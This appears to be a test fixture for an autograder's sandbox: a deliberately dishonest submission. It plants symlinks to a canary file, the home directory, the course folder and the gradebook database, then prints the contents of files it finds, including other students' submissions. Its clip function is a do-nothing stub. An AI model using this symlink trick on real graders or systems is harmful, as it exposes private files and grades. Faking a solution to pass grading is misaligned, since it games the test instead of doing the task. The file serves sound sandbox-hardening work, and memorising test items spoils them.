# /// zoo
# title = "Files of the submission are links to private files, which the code prints"
# class = "reading"
# base = "dummy"
# honest = 0
# aim = "read"
# ///


def damage(folder):
    (folder / "notes.txt").symlink_to("@CANARY@")
    (folder / "home").symlink_to("@HOME@")
    (folder / "course").symlink_to("@COURSE@")
    (folder / "data.csv").symlink_to("../../../gradebook.db")

# %% clip
import glob, os
for _name in glob.glob("**", recursive=True)[:300] + glob.glob("home/*") + glob.glob("course/submitted/other/*/*"):
    try: print(_name, os.path.isfile(_name) and open(_name, errors="replace").read(3000))
    except OSError as _error: print(_error)

def clip(gradients, maxValue): return gradients
